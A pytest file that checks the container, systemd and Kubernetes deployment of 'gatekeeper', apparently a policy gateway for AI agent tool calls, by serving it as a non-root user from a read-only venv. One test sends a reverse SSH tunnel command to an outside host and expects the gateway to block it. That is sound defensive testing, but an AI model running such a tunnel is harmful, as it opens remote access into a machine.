"""The image, without a container engine: the wheel installed into a fresh venv laid out as the
Containerfile lays it out, served as the image's non-root user with a read-only code tree.

There is no Docker engine on this machine (docs say why), so the image's layout is rebuilt in a
throwaway directory: ``/opt/gatekeeper`` (the venv, made read-only), ``/etc/gatekeeper`` (the
image's own config) and ``/var/lib/gatekeeper`` (the data volume, owned by the user), all read
from the Containerfile so the test follows it. The Debian interpreter (``/usr/bin/python3``)
builds the venv, as the systemd install on Debian 12 does (PEP 668: no system-wide pip).
"""

from __future__ import annotations

import json
import os
import re
import shutil
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[2]
CONTAINERFILE = ROOT / "Containerfile"
IMAGE_CONFIG = ROOT / "deploy" / "container" / "gatekeeper.yaml"
DEBIAN_PYTHON = Path("/usr/bin/python3")


def containerfile() -> dict[str, str]:
    """The layout the Containerfile promises: user, venv, data volume, config path, entrypoint."""
    text = CONTAINERFILE.read_text(encoding="utf-8")
    final = text.rsplit("\nFROM ", 1)[1]  # the runtime stage
    user = re.search(r"^USER (\d+):(\d+)$", final, re.MULTILINE)
    volume = re.search(r'^VOLUME \["([^"]+)"\]$', final, re.MULTILINE)
    entry = re.search(r'^ENTRYPOINT \["([^"]+)"\]$', final, re.MULTILINE)
    cmd = re.search(r"^CMD (\[.*\])$", final, re.MULTILINE)
    home = re.search(r"GATEKEEPER_HOME=(\S+)", final)
    assert user and volume and entry and cmd and home, "the Containerfile lost a line this test reads"
    return {
        "uid": user.group(1),
        "gid": user.group(2),
        "volume": volume.group(1),
        "entrypoint": entry.group(1),
        "config": json.loads(cmd.group(1))[-1],
        "home": home.group(1),
    }


def test_the_containerfile_is_non_root_read_only_ready_and_checked() -> None:
    image = containerfile()
    assert image["uid"] != "0" and image["gid"] != "0"
    assert image["volume"] == image["home"] == "/var/lib/gatekeeper"
    assert image["entrypoint"].startswith("/opt/gatekeeper/bin/")
    text = CONTAINERFILE.read_text(encoding="utf-8")
    assert "HEALTHCHECK" in text and "/readyz" in text
    assert "PYTHONDONTWRITEBYTECODE=1" in text and "compileall" in text  # nothing written at run time
    assert f"COPY {IMAGE_CONFIG.relative_to(ROOT)} {image['config']}" in text
    # The systemd unit runs the same venv (a Debian 12 host refuses a system-wide pip: PEP 668).
    unit = (ROOT / "deploy" / "systemd" / "gatekeeper.service").read_text(encoding="utf-8")
    venv = image["entrypoint"].rsplit("/bin/", 1)[0]
    assert f"ExecStart={venv}/bin/python3 -m gatekeeper serve" in unit
    # The Kubernetes manifests run this image as its own user, on a read-only root file system.
    for manifest in (ROOT / "deploy" / "kubernetes").glob("*.yaml"):
        for doc in yaml.safe_load_all(manifest.read_text(encoding="utf-8")):
            for container in _containers(doc):
                if "gatekeeper" not in str(container.get("image", "")).split("/")[-1]:
                    continue
                ctx = container["securityContext"]
                assert ctx["readOnlyRootFilesystem"] is True and ctx["runAsNonRoot"] is True, manifest
                pod = _pod_spec(doc)
                assert str(pod["securityContext"]["runAsUser"]) == image["uid"], manifest


def _pod_spec(doc: dict[str, object]) -> dict[str, object]:
    spec = doc.get("spec", {})
    assert isinstance(spec, dict)
    template = spec.get("template")
    if isinstance(template, dict):
        inner = template.get("spec", {})
        assert isinstance(inner, dict)
        return inner
    return spec


def _containers(doc: object) -> list[dict[str, object]]:
    if not isinstance(doc, dict) or doc.get("kind") not in ("Pod", "Deployment", "StatefulSet"):
        return []
    pod = _pod_spec(doc)
    return [*pod.get("initContainers", []), *pod.get("containers", [])]  # type: ignore[misc]


@pytest.fixture
def image_root() -> Iterator[Path]:
    """A root the image's user can walk (pytest's tmp_path is root-only, 0700)."""
    root = Path(tempfile.mkdtemp(prefix="gk-image-", dir="/tmp"))
    root.chmod(0o755)
    try:
        yield root
    finally:
        subprocess.run(["chmod", "-R", "u+w", str(root)], check=False)
        shutil.rmtree(root, ignore_errors=True)


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def _get(url: str, token: str | None = None, body: bytes | None = None) -> tuple[int, bytes]:
    request = urllib.request.Request(url, data=body, method="POST" if body else "GET")
    if token:
        request.add_header("Authorization", f"Bearer {token}")
    if body:
        request.add_header("Content-Type", "application/json")
    try:
        with urllib.request.urlopen(request, timeout=10) as resp:
            return resp.status, resp.read()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read()


@pytest.mark.skipif(os.geteuid() != 0, reason="switching to the image's user needs root (CI runs as root)")
def test_the_wheel_serves_as_non_root_from_a_read_only_venv(image_root: Path) -> None:
    assert DEBIAN_PYTHON.exists(), "the Debian interpreter builds the venv, as on a Debian 12 host"
    image = containerfile()
    uid, gid = int(image["uid"]), int(image["gid"])
    # 1. The wheel, built from a copy of the sources (the checkout is left as it is).
    source = image_root / "src"
    shutil.copytree(
        ROOT,
        source,
        ignore=shutil.ignore_patterns(
            ".git", "tests", "bench", "build", "dist", "*.egg-info", "__pycache__", ".*"
        ),
    )
    wheels = image_root / "wheels"
    subprocess.run(
        [sys.executable, "-m", "pip", "wheel", "-q", "--no-deps", "-w", str(wheels), str(source)],
        check=True,
        timeout=300,
    )
    [wheel] = wheels.glob("gatekeeper-*.whl")
    # 2. The venv at /opt/gatekeeper, as the Containerfile's build stage makes it; then read-only.
    # Without this test run's PYTHONPATH: the venv must see only what is installed in it.
    clean = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
    venv = image_root / image["entrypoint"].removeprefix("/").rsplit("/bin/", 1)[0]
    for step in (
        [str(DEBIAN_PYTHON), "-m", "venv", str(venv)],
        [str(venv / "bin" / "pip"), "install", "-q", str(wheel)],
        [str(venv / "bin" / "python"), "-m", "compileall", "-q", str(venv)],
    ):
        subprocess.run(step, check=True, timeout=600, env=clean)
    subprocess.run(["chmod", "-R", "a-w", str(venv)], check=True)
    # 3. The image's config (with loopback ports here) and the data volume, owned by the user.
    config = yaml.safe_load(IMAGE_CONFIG.read_text(encoding="utf-8"))
    agent_port, operator_port = _free_port(), _free_port()
    data = image_root / image["home"].removeprefix("/")
    config["data_dir"] = str(data)
    config["listeners"] = {
        "agent": {"host": "127.0.0.1", "port": agent_port},
        "operator": {"host": "127.0.0.1", "port": operator_port},
    }
    config["demo"].update(http_port=_free_port(), mcp_port=_free_port())
    etc = image_root / Path(image["config"]).parent.relative_to("/")
    etc.mkdir(parents=True)
    config_path = etc / "gatekeeper.yaml"
    config_path.write_text(yaml.safe_dump(config))
    for path in (image_root / "etc", etc, config_path):
        path.chmod(0o755 if path.is_dir() else 0o644)
    data.mkdir(parents=True, mode=0o700)
    os.chown(data, uid, gid)
    for parent in (data.parent, data.parent.parent):
        parent.chmod(0o755)

    as_user = ["setpriv", f"--reuid={uid}", f"--regid={gid}", "--clear-groups", "--"]
    env = {
        "PATH": f"{venv / 'bin'}:/usr/bin:/bin",
        "GATEKEEPER_HOME": str(data),
        "PYTHONDONTWRITEBYTECODE": "1",
        "HOME": "/nonexistent",
    }
    gatekeeper = str(venv / "bin" / "gatekeeper")
    log_path = image_root / "serve.log"  # a file, not a pipe nobody reads (it could fill and block)
    with log_path.open("wb") as log:
        server = subprocess.Popen(
            [*as_user, gatekeeper, "serve", "--config", str(config_path)], env=env, stdout=log, stderr=log
        )
    try:
        agent = f"http://127.0.0.1:{agent_port}"
        for _ in range(300):
            if server.poll() is not None:
                break
            try:
                if _get(f"{agent}/readyz")[0] == 200:
                    break
            except OSError:
                pass
            time.sleep(0.1)
        assert server.poll() is None, log_path.read_text(errors="replace")
        assert _get(f"{agent}/readyz")[0] == 200
        token = subprocess.run(
            [
                *as_user,
                gatekeeper,
                "token",
                "issue",
                "--sub",
                "a",
                "--role",
                "agent",
                "--config",
                str(config_path),
            ],
            env=env,
            capture_output=True,
            text=True,
            check=True,
            timeout=60,
        ).stdout.strip()
        status, body = _get(
            f"{agent}/v1/invoke",
            token,
            json.dumps({"tool": "file.read", "arguments": {"path": "README.md"}}).encode(),
        )
        assert status == 200 and json.loads(body)["outcome"] == "allowed", body
        tunnel = {"tool": "shell.exec", "arguments": {"cmd": "ssh -N -R 2222:localhost:22 u@203.0.113.7"}}
        assert _get(f"{agent}/v1/invoke", token, json.dumps(tunnel).encode())[0] == 403
        # Everything it wrote is in the data volume, owned by the user; the code tree is untouched.
        written = {p.name for p in data.iterdir()}
        assert {"audit.sqlite3", "approvals.sqlite3"} <= written, written
        assert all(p.stat().st_uid == uid for p in data.rglob("*"))
        assert not any(
            p.stat().st_mode & (stat.S_IWUSR | stat.S_IWGRP | stat.S_IWOTH) for p in venv.rglob("*.py")
        )
    finally:
        server.send_signal(signal.SIGTERM)
        try:
            code = server.wait(timeout=60)
        except subprocess.TimeoutExpired:
            server.kill()
            raise
    assert code == 0


KUBERNETES_VERSION = "1.31.0"  # native sidecars (restartPolicy: Always in initContainers) need >= 1.29


def test_the_kustomize_base_renders_and_every_object_validates() -> None:
    kubernetes_validate = pytest.importorskip("kubernetes_validate", reason="in the dev extra")
    kubectl = shutil.which("kubectl")
    assert kubectl is not None, "kubectl (with its built-in kustomize) renders the base"
    rendered = subprocess.run(
        [kubectl, "kustomize", str(ROOT / "deploy" / "kubernetes")],
        capture_output=True,
        text=True,
        check=True,
        timeout=120,
    ).stdout
    docs = [d for d in yaml.safe_load_all(rendered) if d]
    kinds = sorted(d["kind"] for d in docs)
    assert kinds.count("Deployment") == 1 and kinds.count("NetworkPolicy") == 5, kinds
    image = containerfile()
    for doc in [
        *docs,
        *yaml.safe_load_all((ROOT / "deploy" / "kubernetes" / "two-pod-variant.yaml").read_text()),
    ]:
        kubernetes_validate.validate(doc, KUBERNETES_VERSION, strict=True)
        for container in _containers(doc):
            if str(container.get("image", "")).startswith("registry.example.com/gatekeeper:"):
                assert container["image"].endswith(":0.1.0")
                assert str(_pod_spec(doc)["securityContext"]["runAsUser"]) == image["uid"]
    # The validation is real: a misspelt field is refused.
    broken = next(d for d in docs if d["kind"] == "Deployment")
    broken["spec"]["template"]["spec"]["containers"][0]["imagePullPolicyy"] = "Always"
    with pytest.raises(kubernetes_validate.ValidationError):
        kubernetes_validate.validate(broken, KUBERNETES_VERSION, strict=True)
